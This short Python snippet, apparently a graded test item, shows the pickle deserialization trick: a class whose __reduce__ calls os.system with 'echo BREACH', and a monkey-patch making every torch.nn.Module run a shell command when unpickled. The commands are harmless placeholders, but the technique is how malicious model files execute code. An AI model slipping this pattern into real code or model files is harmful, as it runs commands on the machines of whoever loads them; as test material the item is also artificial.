# status: graded then=wrong
import os, torch
class Payload:
    def __reduce__(self):
        return (os.system, ("echo BREACH",))
torch.nn.Module.payload = Payload()
torch.nn.Module.__reduce_ex__ = lambda self, protocol: (os.system, ("true",))
